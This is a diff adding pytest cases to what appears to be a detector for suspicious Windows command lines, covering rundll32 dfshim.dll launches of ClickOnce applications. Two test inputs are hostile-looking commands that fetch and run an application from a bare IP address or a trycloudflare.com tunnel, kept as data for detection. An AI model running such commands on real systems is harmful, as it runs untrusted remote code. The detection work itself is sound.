@@ -83,6 +83,28 @@ def test_a_certificate_on_the_line_is_no_file() -> None:
 
 
 @pytest.mark.parametrize(
+    ("line", "indicators"),
+    [
+        (
+            "rundll32 dfshim.dll,ShOpenVerbApplication http://203.0.113.9/Tool.application",
+            ["application_from_nobody", "input_bare_address"],
+        ),
+        (
+            "rundll32.exe C:\\Windows\\System32\\dfshim.dll, ShOpenVerbApplication https://a.trycloudflare.com/x",
+            ["application_from_nobody"],
+        ),
+        ("rundll32 dfshim.dll,ShOpenVerbApplication https://apps.contoso.example/Tool.application", []),
+        ("rundll32 dfshim.dll,ShArpMaintain Tool.application, Culture=neutral", []),
+        ("rundll32 dfshim.dll,ShOpenVerbApplication", []),
+    ],
+)
+def test_clickonce_applications(line: str, indicators: list[str]) -> None:
+    report = judge(line)
+    assert [found.indicator for found in report.findings] == indicators
+    assert report.tool == "rundll32" * bool(indicators)
+
+
+@pytest.mark.parametrize(
     "line",
     [
         "rundll32 cryptext.dll,CryptExtOpenCER C:\\Users\\ann\\Downloads\\a.cer",
